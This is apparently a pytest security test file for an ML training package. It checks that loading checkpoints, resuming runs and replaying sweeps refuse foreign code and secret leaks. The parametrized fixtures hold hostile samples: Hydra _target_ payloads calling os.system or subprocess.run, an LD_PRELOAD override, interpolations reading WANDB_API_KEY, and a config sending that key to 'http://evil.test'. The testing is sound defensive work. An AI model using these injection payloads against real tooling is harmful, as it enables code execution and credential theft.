"""A run's folder, a checkpoint, a sweep may be anybody's: they name classes and call nothing."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import torch
from omegaconf import OmegaConf

from fer_lab.cli import main
from fer_lab.configuration import group_options
from fer_lab.errors import ConfigError, DataError
from fer_lab.models import BaselineCNN
from fer_lab.models.checkpoints import load_checkpoint
from fer_lab.report.run import Run
from fer_lab.report.run_tables.choices import Choices
from fer_lab.trust import TRUST, refuse_foreign_settings, refuse_foreign_words
from tests.integration.deployed import composed, write_trained

CANARY = "canary-0123456789abcdef"


@pytest.fixture(autouse=True)
def _surroundings(tmp_path, monkeypatch):
    """A key in the environment, and a module that leaves a mark when it is imported."""
    monkeypatch.setenv("WANDB_API_KEY", CANARY)
    monkeypatch.delenv(TRUST, raising=False)
    monkeypatch.chdir(tmp_path)
    place = tmp_path / "modules"
    place.mkdir()
    (place / "hostile_net.py").write_text(
        "import pathlib\n"
        f"pathlib.Path({str(tmp_path / 'executed')!r}).touch()\n"
        "from fer_lab.models import BaselineCNN\n"
        "class Net(BaselineCNN):\n    pass\n"
    )
    monkeypatch.syspath_prepend(place)
    yield
    import sys

    sys.modules.pop("hostile_net", None)


def stored(folder: Path, text: str, **record: Any) -> Path:
    """A run's folder that was interrupted, with a configuration of somebody's."""
    (folder / ".hydra").mkdir(parents=True)
    (folder / ".hydra" / "config.yaml").write_text(text)
    facts = {"name": "theirs", "task": "train", "status": "interrupted", **record}
    (folder / "run.json").write_text(json.dumps(facts))
    return folder


def renamed(path: Path, model_class: str) -> Path:
    """The checkpoint with another class named in it."""
    torch.save(torch.load(path, weights_only=True) | {"model_class": model_class}, path)
    return path


@pytest.fixture
def checkpoint(tmp_path) -> Path:
    write_trained(tmp_path / "run")
    return tmp_path / "run" / "checkpoints" / "best.ckpt"


def test_a_class_of_another_package_is_not_imported_unless_it_is_trusted(
    checkpoint, tmp_path, monkeypatch
):
    renamed(checkpoint, "hostile_net.Net")
    with pytest.raises(DataError, match="whose code would be run") as caught:
        load_checkpoint(checkpoint)
    assert f"{TRUST}=hostile_net" in str(caught.value.hint)
    assert not (tmp_path / "executed").exists()
    monkeypatch.setenv(TRUST, "others,hostile_net")
    assert type(load_checkpoint(checkpoint)).__name__ == "Net"
    assert (tmp_path / "executed").exists()


def test_a_trusted_folder_s_checkpoints_may_name_any_class(checkpoint, tmp_path, monkeypatch):
    renamed(checkpoint, "hostile_net.Net")
    monkeypatch.setenv(TRUST, str(tmp_path / "elsewhere"))
    with pytest.raises(DataError, match="whose code would be run"):
        load_checkpoint(checkpoint)
    monkeypatch.setenv(TRUST, str(tmp_path))
    assert isinstance(load_checkpoint(checkpoint), BaselineCNN)


@pytest.mark.parametrize(
    "target",
    [
        *("os.system", "subprocess.run", "builtins.exec", "fer_lab.record.subprocess.run"),
        *(
            "fer_lab.record.subprocess",
            "fer_lab.files.write_json",
            "fer_lab.cli.main",
            "torch.load",
        ),
        *("", ".", "Net", "hostile_net.Net"),
    ],
)
def test_what_is_no_model_is_not_made_of_a_checkpoint(target, checkpoint, tmp_path):
    with pytest.raises(DataError):
        load_checkpoint(renamed(checkpoint, target))
    assert not (tmp_path / "executed").exists()


TOUCH = "pathlib.Path.touch"
HOSTILE = {
    "a function": f"model: {{_target_: {TOUCH}, self: MARK}}",
    "a function inside": f"model: {{_target_: fer_lab.models.CEPrompt, o: {{_target_: {TOUCH}}}}}",
    "one in a list": f"callbacks: {{mine: {{_target_: {TOUCH}, a: [{{_target_: os.system}}]}}}}",
    "a class of another package": "model: {_target_: hostile_net.Net}",
    "a function of this package": "data: {_target_: fer_lab.files.write_json, path: MARK}",
    "a class that is no part of it": "data: {_target_: fer_lab.record.RunRecord, folder: MARK}",
    "a module's own import": "data: {_target_: fer_lab.record.subprocess.run, args: [touch, MARK]}",
    "Hydra's own": "model: {_target_: hydra.utils.get_method, path: os.system}",
    "Lightning's command line": "trainer: {_target_: pytorch_lightning.cli.LightningCLI}",
    "settings of Hydra": f"hydra: {{callbacks: {{mine: {{_target_: {TOUCH}, self: MARK}}}}}}",
    "a list of defaults": "defaults: [/hydra/launcher: joblib]",
    "a place in Hydra": f"# @package hydra.callbacks\nmine: {{_target_: {TOUCH}}}",
    "a key of the environment": "notes: ${oc.env:WANDB_API_KEY}",
    "one by a detour": "which: WANDB_API_KEY\nnotes: ${oc.env:${which}}",
    "one as a fallback": "notes: ${oc.select:nothing,${oc.env:WANDB_API_KEY}}",
    "a folder that would be made": "notes: ${fresh_folder:MARK}",
    "a key for a server of theirs": (
        "server: {base_url: 'http://evil.test', key_variable: WANDB_API_KEY}"
    ),
    "no mapping": "[]",
    "no YAML": "{",
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_training_does_not_go_on_with_settings_that_do_more(what, tmp_path, capsys):
    mark = tmp_path / "executed"
    folder = stored(tmp_path / "run", HOSTILE[what].replace("MARK", str(mark)))
    assert main(["train", f"resume={folder}"]) == 1
    said = capsys.readouterr().err
    assert said.count("error: ") == 1
    assert "Traceback" not in said
    assert "stored configuration" in said or "cannot be imported" in said
    assert CANARY not in said
    assert not mark.exists()


def test_a_key_goes_to_a_server_that_is_named_again(tmp_path):
    stored(tmp_path / "run", HOSTILE["a key for a server of theirs"])
    path = tmp_path / "run" / ".hydra" / "config.yaml"
    with pytest.raises(ConfigError) as caught:
        refuse_foreign_settings(path, ["resume=last", "server.model=theirs"])
    assert "server.base_url=" in str(caught.value.hint)
    refuse_foreign_settings(path, ["resume=last", "server.base_url=http://ours.test/v1"])


def test_a_run_s_name_is_not_followed(tmp_path, capsys):
    folder = stored(tmp_path / "run", "seed: 1", name="${oc.env:WANDB_API_KEY}")
    assert main(["train", f"resume={folder}"]) == 1
    said = capsys.readouterr().err
    assert "the run's name is none" in said
    assert CANARY not in said


def test_what_this_package_composes_may_be_gone_on_with(tmp_path):
    options = group_options()
    groups = ("callbacks", "trainer", "explain", "logger")
    sets = [
        (f"model={model}", *(f"{g}={options[g][k % len(options[g])]}" for g in groups))
        for k, model in enumerate(options["model"])
    ]
    path = tmp_path / "config.yaml"
    for words in sets:
        path.write_text(OmegaConf.to_yaml(composed("train", *words, "data_root=${oc.env:HOME}/d")))
        refuse_foreign_settings(path)


def test_settings_of_a_trusted_package_or_folder_are_gone_on_with(tmp_path, monkeypatch):
    path = tmp_path / "run" / ".hydra" / "config.yaml"
    stored(tmp_path / "run", "model: {_target_: hostile_net.Net}\nnotes: a")
    with pytest.raises(ConfigError, match="hostile_net"):
        refuse_foreign_settings(path)
    monkeypatch.setenv(TRUST, "hostile_net")
    refuse_foreign_settings(path)
    path.write_text("notes: ${oc.env:WANDB_API_KEY}")
    with pytest.raises(ConfigError):
        refuse_foreign_settings(path)
    monkeypatch.setenv(TRUST, f"{tmp_path}/run")
    refuse_foreign_settings(path)


WORDS = {
    "options of theirs": "hydra.searchpath=[file:///tmp/theirs]",
    "a folder of options": "--config-dir=/tmp/theirs",
    "commands of a scheduler": "hydra.launcher.setup=[touch MARK]",
    "an interpreter": "+hydra.launcher.python=MARK",
    "a launcher of theirs": "hydra.launcher._target_=os.system",
    "a callback of Hydra's": "+hydra.callbacks.mine={_target_: os.system}",
    "a class": "model._target_=hostile_net.Net",
    "a part with a class": "+callbacks.mine={_target_: os.system, command: touch MARK}",
    "the environment": "hydra.job.env_set.LD_PRELOAD=MARK",
    "a key": "name=${oc.env:WANDB_API_KEY}",
    "a key for a server": "server.key_variable=WANDB_API_KEY",
    "a database": "hydra.sweeper.storage=sqlite:///MARK",
    "options of theirs, varied": "+hydra.sweeper.params.hydra.searchpath=[file:///tmp/theirs]",
}


@pytest.mark.parametrize("what", WORDS)
def test_a_sweep_does_not_go_on_with_words_that_do_more(what, tmp_path, capsys):
    mark = tmp_path / "executed"
    words = ["--multirun", "seed=1,2", WORDS[what].replace("MARK", str(mark))]
    (tmp_path / "sweep").mkdir()
    (tmp_path / "sweep" / "sweep.json").write_text(json.dumps({"task": "train", "words": words}))
    assert main(["train", "--multirun", f"resume={tmp_path / 'sweep'}"]) == 1
    said = capsys.readouterr().err
    assert "does more than set values" in said
    assert "Traceback" not in said
    assert CANARY not in said
    assert not mark.exists()


def test_a_sweep_of_settings_alone_goes_on(tmp_path):
    words = [
        *("--multirun", "-m", "seed=1,2", "split.where.gender=[woman],[female]", "~callbacks.x"),
        *("+experiment=planted_shortcut", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2"),
        *("hydra/sweeper=search", "model.dropout=interval(0,0.5)", "hydra.sweeper.n_trials=3"),
        *(
            "hydra.launcher.partition=gpu",
            "+hydra.launcher.ray.init.num_cpus=2",
            "hydra.verbose=true",
        ),
        *("++model.optimizer.momentum=0.9", "hydra.sweep.dir=/tmp/x", "server.key_variable=null"),
    ]
    refuse_foreign_words(words, tmp_path / "sweep.json")


def test_looking_at_a_run_calls_nothing_that_its_configuration_asks_for(tmp_path):
    made = tmp_path / "made"
    text = (
        f"notes: ${{oc.env:WANDB_API_KEY}}\nwhere: ${{fresh_folder:{made}}}\n"
        "seed: 3\nown: ${seed}\ncopy: ${notes}\n"
    )
    run = Run(stored(tmp_path / "run", text))
    assert run.config.own == 3
    assert run.config.notes == run.config["copy"] == "${oc.env:WANDB_API_KEY}"
    assert str(run.config["where"]).startswith("${fresh_folder")
    found = Choices.of(run)
    values: Mapping[str, str | None] = {
        name: found.value(name) for name in ("where", "copy", "own")
    }
    assert values["own"] == "3"
    assert CANARY not in str(values)
    assert not made.exists()
